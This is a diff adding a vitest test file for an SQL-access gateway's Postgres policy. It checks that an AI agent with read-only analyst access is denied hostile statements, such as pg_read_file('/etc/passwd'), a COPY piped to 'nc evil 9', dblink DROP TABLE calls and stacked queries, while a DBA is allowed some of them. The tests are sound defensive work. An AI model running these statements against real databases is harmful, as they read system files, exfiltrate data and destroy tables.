@@ -1,0 +1,83 @@
+/**
+ * The SQL analyser's facts, fed to the compiled policy bundle as the proxy
+ * will: proves the facts have the shape policies/postgres/postgres.rego
+ * reads (kind, readonly, tables[].access, functions).
+ */
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { PolicyEvaluator } from '../../engine/policy/evaluator.js';
+import { analyseSql } from '../../proxies/postgres/sql/analyse.js';
+import { projectEvaluator } from '../helpers/gateway-bundle.js';
+import { makeTempDir, removeDir } from '../helpers/opa.js';
+
+let evaluator: PolicyEvaluator;
+let dir: string;
+beforeAll(async () => {
+  dir = makeTempDir('gatehouse-pg-sql-');
+  evaluator = await projectEvaluator(join(dir, 'bundle.tar.gz'));
+});
+afterAll(() => removeDir(dir));
+
+const analyst = { sub: 'agent:report-bot', iss: 'https://idp.example.com', groups: ['analysts'], agent: true, act: { sub: 'alice@example.com' }, claims: {} };
+const dba = { ...analyst, sub: 'bob@example.com', groups: ['dba'], act: null };
+
+async function decide(identity: typeof analyst | typeof dba, text: string) {
+  const input = {
+    identity,
+    target: { name: 'orders-db', kind: 'postgres', labels: { env: 'prod', data: 'pii' } },
+    session: { id: 'sess-sql' },
+    now_ns: 1767225600000000000,
+    approval: null,
+    postgres: { database: 'orders', role: 'gatehouse_orders', protocol: 'simple', text, statements: await analyseSql(text) },
+  };
+  const { decision, metadata } = evaluator.evaluate('gatehouse/postgres/decision', input);
+  expect(metadata.failure, decision.reasons.join('; ')).toBeUndefined();
+  return decision;
+}
+
+describe('analysed SQL through the compiled postgres policy', () => {
+  it("allows an analyst's SELECT with joins and subqueries", async () => {
+    const d = await decide(analyst, 'SELECT c.email, o.total FROM public.customers c JOIN orders o ON o.customer_id = c.id WHERE o.id IN (SELECT order_id FROM flags)');
+    expect(d.action).toBe('allow');
+    expect(d.reasons).toEqual(['allowed by grant analysts-read-orders: read access to orders-db']);
+  });
+
+  it('denies an analyst a SELECT whose CTE deletes', async () => {
+    const d = await decide(analyst, 'WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone');
+    expect(d.action).toBe('deny');
+    expect(d.reasons).toEqual(['group analysts has read-only access to orders-db; SELECT writes public.orders']);
+  });
+
+  it.each([
+    ["SELECT pg_read_file('/etc/passwd')", 'function pg_read_file is not allowed with read-only access to orders-db'],
+    ["SELECT id FROM orders ORDER BY pg_catalog.set_config('search_path', 'evil', false)", 'function pg_catalog.set_config is not allowed with read-only access to orders-db'],
+    ["SELECT nextval('orders_id_seq')", 'function nextval is not allowed with read-only access to orders-db'],
+    ["SELECT * FROM orders WHERE EXISTS (SELECT dblink_exec('h', 'DROP TABLE orders'))", 'function dblink_exec is not allowed with read-only access to orders-db'],
+  ])('denies an analyst %s', async (sql, reason) => {
+    const d = await decide(analyst, sql);
+    expect(d.action).toBe('deny');
+    expect(d.reasons).toContain(reason);
+  });
+
+  it.each([
+    ["COPY customers TO PROGRAM 'nc evil 9'", 'COPY is not read-only'],
+    ['DO $$ BEGIN DELETE FROM orders; END $$', 'DO is not read-only'],
+    ['SELECT * INTO loot FROM customers', 'SELECT writes public.loot'],
+    ['EXPLAIN ANALYZE DELETE FROM orders', 'EXPLAIN writes public.orders'],
+    ['COMMIT', 'COMMIT is not read-only'],
+    ['SELECT 1; DROP TABLE public.orders', 'DROP writes public.orders'],
+  ])('denies an analyst %s as a write', async (sql, why) => {
+    const d = await decide(analyst, sql);
+    expect(d.action).toBe('deny');
+    expect(d.reasons).toEqual([`group analysts has read-only access to orders-db; ${why}`]);
+  });
+
+  it('allows an analyst a plain EXPLAIN of a DELETE (it does not run)', async () => {
+    expect((await decide(analyst, 'EXPLAIN DELETE FROM orders')).action).toBe('allow');
+  });
+
+  it('allows a DBA the DELETE and pg_read_file', async () => {
+    expect((await decide(dba, 'DELETE FROM public.orders WHERE id = 42')).reasons).toEqual(['allowed by grant dba-administer: write access to orders-db']);
+    expect((await decide(dba, "SELECT pg_read_file('postgresql.conf')")).action).toBe('allow');
+  });
+});
